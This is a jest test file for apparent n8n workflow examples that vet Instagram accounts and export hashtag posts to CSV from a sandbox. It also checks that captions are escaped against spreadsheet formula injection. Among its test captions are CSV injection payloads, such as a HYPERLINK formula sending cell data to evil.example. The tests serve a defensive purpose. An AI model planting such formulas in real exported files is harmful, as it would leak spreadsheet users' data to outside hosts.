/**
 * The two jobs of issue 24 as shipped examples, run in a real n8n (2.8.4, and 2.41.1 in the jest
 * project n8n-newest) against the sandbox in this jest process, with only their folder changed:
 * - n8n-node/examples/vet-accounts.json: a list of accounts -> engagement and fake-follower audit
 *   -> a verdict by n8n's Set and IF nodes from the thresholds in its Thresholds node; the verdicts
 *   are the thresholds applied to what the sandbox answers for each account, and follow when the
 *   thresholds change; credits as the README says;
 * - n8n-node/examples/hashtag-watch-to-csv.json: the hashtag trigger across real polls, each new
 *   post once, oldest first, as a CSV row (Convert to File) and its image as a file (Read/Write
 *   Files); credits = pages read; captions a spreadsheet would run as formulas (published in the
 *   sandbox) are written as the trigger's `caption_for_sheets` and read back as their text.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spreadsheetSafe } from '@igdata/core';
import { enterValue } from '../../scripts/gas-standin/services/cellInput';
import { parseCsv as parseRows } from '../../scripts/gas-standin/services/utilities';
import { drawPicture } from '../../scripts/sandbox/media/pictures';
import type { N8nWorld } from './setup';
import { root, rt, setupN8n, teardownN8n } from './setup';

jest.setTimeout(400_000);

let world: N8nWorld;
let dir: string;
beforeAll(async () => {
  // The examples' credential (n8n-node/examples).
  world = await setupN8n([{ id: 'igDataSandboxCred', name: 'IG Data (sandbox)' }]);
  dir = mkdtempSync(join(tmpdir(), 'igdata-n8n-examples-'));
});
afterAll(async () => {
  await teardownN8n(world);
  if (dir) rmSync(dir, { recursive: true, force: true });
});

type Node = { name: string; type: string; parameters: Record<string, any> };
type Workflow = { nodes: Node[]; connections: Record<string, unknown> };
const example = (file: string): Workflow => JSON.parse(readFileSync(join(root, 'n8n-node/examples', file), 'utf8'));
const node = (wf: Workflow, name: string) => wf.nodes.find((n) => n.name === name)!;

/** What the sandbox answers for a call, asked directly with a key of the test's own. */
async function ask(key: string, path: string): Promise<Record<string, any>> {
  const res = await fetch(`${world.sb.url}/v1/${path}`, { headers: { authorization: `Bearer ${key}` } });
  expect(res.status).toBe(200);
  return ((await res.json()) as { data: Record<string, any> }).data;
}

describe('the example "vet a list of accounts"', () => {
  type Thresholds = { min_followers: number; min_engagement_rate_pct: number; min_estimated_real_pct: number };
  const thresholdsOf = (wf: Workflow): Thresholds =>
    Object.fromEntries(
      node(wf, 'Thresholds').parameters.assignments.assignments.map((a: { name: string; value: number }) => [
        a.name,
        a.value,
      ]),
    ) as Thresholds;
  const setThresholds = (wf: Workflow, t: Thresholds) => {
    for (const a of node(wf, 'Thresholds').parameters.assignments.assignments) a.value = t[a.name as keyof Thresholds];
  };

  /** The accounts of the example's list, each with the sandbox's own figures. */
  async function known(wf: Workflow) {
    const handles = [...node(wf, 'Accounts to vet').parameters.jsCode.matchAll(/'([^']+)'/g)].map((m) => m[1]);
    const key = world.sb.createKey(1000);
    const out = [];
    for (const handle of handles) {
      const e = await ask(key, `insights/profile/engagement?handle=${encodeURIComponent(handle)}&posts=12`);
      const a = await ask(key, `insights/profile/audit?handle=${encodeURIComponent(handle)}&sample=100`);
      out.push({
        account: e.username as string,
        followers: e.followers as number,
        engagement_rate_pct: e.engagement_rate_pct as number,
        estimated_real_pct: a.estimated_real_pct as number,
        quality_grade: a.quality_grade as string,
      });
    }
    return out;
  }
  /** The verdict the thresholds give an account: what the example must output. */
  const verdictOf = (k: Awaited<ReturnType<typeof known>>[number], t: Thresholds) => {
    const short = [
      k.followers < t.min_followers ? 'followers' : '',
      k.engagement_rate_pct < t.min_engagement_rate_pct ? 'engagement rate' : '',
      k.estimated_real_pct < t.min_estimated_real_pct ? 'real followers' : '',
    ].filter(Boolean);
    return {
      ...k,
      profile: `https://www.instagram.com/${k.account}/`,
      verdict: short.length ? 'reject' : 'pass',
      falls_short_on: short.join(', '),
    };
  };
  const run = async (wf: Workflow) => {
    world.sb.resetStats();
    const r = await rt.runWorkflow(world.home, wf);
    expect(r.error).toBeUndefined();
    const output = (name: string) => (rt.nodeOutput(r.run, name) ?? []) as Record<string, unknown>[];
    return { pass: output('Pass'), reject: output('Reject'), stats: world.sb.stats(), r };
  };

  test("verdicts are the thresholds applied to each account's figures; 8 credits an account; new thresholds, new verdicts", async () => {
    const wf = example('vet-accounts.json');
    const accounts = await known(wf);
    expect(accounts).toHaveLength(8);
    const shipped = thresholdsOf(wf);
    expect(shipped).toEqual({ min_followers: 1000, min_engagement_rate_pct: 1, min_estimated_real_pct: 80 });

    const expected = accounts.map((k) => verdictOf(k, shipped));
    // The list is chosen so that each threshold turns at least one account away and four pass.
    expect(expected.filter((v) => v.verdict === 'pass').map((v) => v.account)).toEqual([
      'ida.shoots',
      'kalewithhugo',
      'traveldaily',
      'hugo.compass',
    ]);
    for (const why of ['followers', 'engagement rate', 'real followers'])
      expect(expected.some((v) => v.falls_short_on.includes(why))).toBe(true);

    const first = await run(wf);
    expect(first.pass).toEqual(expected.filter((v) => v.verdict === 'pass'));
    expect(first.reject).toEqual(expected.filter((v) => v.verdict === 'reject'));
    // One engagement (12 posts: 2 credits) and one audit (100 followers: 6 credits) per account.
    expect(first.stats.byEndpoint).toMatchObject({ 'insights/profile/engagement': 8, 'insights/profile/audit': 8 });
    expect(first.stats.creditsBilled).toBe(8 * (2 + 6));
    expect(JSON.stringify(first.r.run)).not.toContain(world.apiKey);

    // The bar moves in the Thresholds node only: the verdicts follow.
    const lower: Thresholds = { min_followers: 100, min_engagement_rate_pct: 0.5, min_estimated_real_pct: 85 };
    setThresholds(wf, lower);
    const relaxed = accounts.map((k) => verdictOf(k, lower));
    expect(relaxed.map((v) => v.verdict)).not.toEqual(expected.map((v) => v.verdict));
    const second = await run(wf);
    expect(second.pass).toEqual(relaxed.filter((v) => v.verdict === 'pass'));
    expect(second.reject).toEqual(relaxed.filter((v) => v.verdict === 'reject'));
  });
});

/** A CSV file's rows as objects by header, after the byte-order mark Convert to File starts it with (the stand-in's RFC 4180 reader). */
function parseCsv(file: string): Record<string, string>[] {
  const [header, ...body] = parseRows(file.replace(/^\uFEFF/, ''), ',');
  return body.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i]])));
}

describe('the example "watch #veganrecipes, new posts to CSV and images"', () => {
  const SHIPPED = '/home/node/.n8n-files/igdata-veganrecipes/';
  /** The example with its folder moved to one of the test's, inside the folder n8n may write to. */
  function inFolder(name: string) {
    const path = join(dir, name);
    mkdirSync(path);
    const wf = example('hashtag-watch-to-csv.json');
    const writers = wf.nodes.filter((n) => n.type === 'n8n-nodes-base.readWriteFile');
    expect(writers).toHaveLength(2);
    for (const w of writers) {
      expect(w.parameters.fileName.startsWith(`=${SHIPPED}`)).toBe(true);
      w.parameters.fileName = w.parameters.fileName.replace(SHIPPED, `${path}/`);
    }
    return { wf, path, env: { N8N_RESTRICT_FILE_ACCESS_TO: path } };
  }
  const publish = async (count: number, caption?: string) => {
    const query = caption === undefined ? '' : `&caption=${encodeURIComponent(caption)}`;
    const res = await fetch(`${world.sb.url}/_sandbox/hashtag/veganrecipes/publish?count=${count}${query}`, {
      method: 'POST',
    });
    expect(res.status).toBe(200);
    return (
      (await res.json()) as {
        published: { id: string; shortcode: string; url: string; taken_at: string; author: string }[];
      }
    ).published;
  };

  test('across real polls every new post is one CSV row and one image file, oldest first, never twice; 1 credit a poll', async () => {
    const { wf, path, env } = inFolder('watch');
    world.sb.resetStats();
    const first = await rt.pollOnce(world.home, wf, { env });
    expect(first.activationError).toBeUndefined();
    expect(first.activated).toBe(true);
    expect(first.executions).toEqual([]); // the first poll records where the feed stands

    const batches = [await publish(3)];
    const second = await rt.pollOnce(world.home, first.id, { env });
    batches.push(await publish(2));
    const third = await rt.pollOnce(world.home, first.id, { env });
    const quiet = await rt.pollOnce(world.home, first.id, { env });
    expect(quiet.executions).toEqual([]);

    const runs = [second, third].map((p) => {
      expect(p.executions).toHaveLength(1);
      expect(p.executions[0].status).toBe('success');
      return p.executions[0];
    });
    // One CSV per run that found new posts, named by its execution; the posts oldest first.
    const csvFiles = readdirSync(path)
      .filter((f) => f.endsWith('.csv'))
      .sort((a, b) => parseInt(a.slice(10), 10) - parseInt(b.slice(10), 10));
    expect(csvFiles).toEqual(runs.map((e) => `new-posts-${e.id}.csv`));
    const rows = csvFiles.map((f) => parseCsv(readFileSync(join(path, f), 'utf8')));
    batches.forEach((published, i) => {
      const oldestFirst = [...published].reverse();
      expect(rows[i].map((r) => r.url)).toEqual(oldestFirst.map((p) => p.url));
      expect(rows[i]).toEqual(
        oldestFirst.map((p) => ({
          posted: p.taken_at,
          author: p.author,
          likes: expect.stringMatching(/^\d+$/),
          comments: expect.stringMatching(/^\d+$/),
          caption: expect.stringContaining('#veganrecipes'),
          url: p.url,
          image_file: `${path}/${p.shortcode}.png`,
        })),
      );
    });
    // Every published post once across the runs; its image the sandbox's picture, byte for byte.
    const all = batches.flat();
    expect(
      rows
        .flat()
        .map((r) => r.url)
        .sort(),
    ).toEqual(all.map((p) => p.url).sort());
    expect(
      readdirSync(path)
        .filter((f) => f.endsWith('.png'))
        .sort(),
    ).toEqual(all.map((p) => `${p.shortcode}.png`).sort());
    for (const p of all)
      expect(readFileSync(join(path, `${p.shortcode}.png`)).equals(drawPicture('p', p.shortcode))).toBe(true);

    // One page of #veganrecipes per poll, 1 credit each; the 5 images free.
    const stats = world.sb.stats();
    expect(stats.byEndpoint).toEqual({ 'hashtag/recent': 4 });
    expect(stats.creditsBilled).toBe(4);
    expect(stats.media).toMatchObject({ requests: 5, byStatus: { [200]: 5 } });
    expect(JSON.stringify(runs)).not.toContain(world.apiKey);
  });

  test("captions a spreadsheet would run or change reach the CSV as the trigger's caption_for_sheets, and read back as their text", async () => {
    const { wf, path, env } = inFolder('captions');
    const first = await rt.pollOnce(world.home, wf, { env });
    expect(first.executions).toEqual([]); // where the feed stands
    // OWASP's CSV injection starts (=, +, -, @, a tab, a carriage return), and plain captions. n8n
    // 2.8.4's Convert to File writes a lone CR unquoted (`'\r=1+1` split the row): the twin holds a
    // line feed there, which it quotes.
    const captions = [
      '=IMAGE("https://x.example/?"&A1)',
      '=HYPERLINK("https://evil.example/?"&A1,"win")',
      '+1',
      '@SUM(1)',
      '-2+3',
      '\t=1+1',
      '\r=1+1',
      'Fresh\r=2+2',
      'Plain #veganrecipes, with "quotes"',
    ];
    const published = [];
    for (const caption of captions) published.push(...(await publish(1, caption)));
    const second = await rt.pollOnce(world.home, first.id, { env });
    expect(second.executions).toHaveLength(1);
    expect(second.executions[0].status).toBe('success');
    const [file] = readdirSync(path).filter((f) => f.endsWith('.csv'));
    const rows = parseCsv(readFileSync(join(path, file), 'utf8'));
    // Oldest first: the order they were published in.
    expect(rows.map((row) => row.url)).toEqual(published.map((p) => p.url));
    // The file holds core's spreadsheet-safe twin: a leading ' exactly where a spreadsheet would compute.
    expect(rows.map((row) => row.caption)).toEqual(captions.map(spreadsheetSafe));
    // Typed into a sheet (the Apps Script stand-in's model of typed input), each is the caption, as text
    // (a lone CR as the line feed the twin holds).
    expect(rows.map((row) => enterValue(row.caption, '', 'UTC'))).toEqual(
      captions.map((value) => ({ value: value.replace(/\r(?!\n)/g, '\n') })),
    );
    // The plain caption would not be: the first would be a live formula.
    expect(enterValue(captions[0], '', 'UTC')).toEqual({ value: '', formula: captions[0] });
  });
});
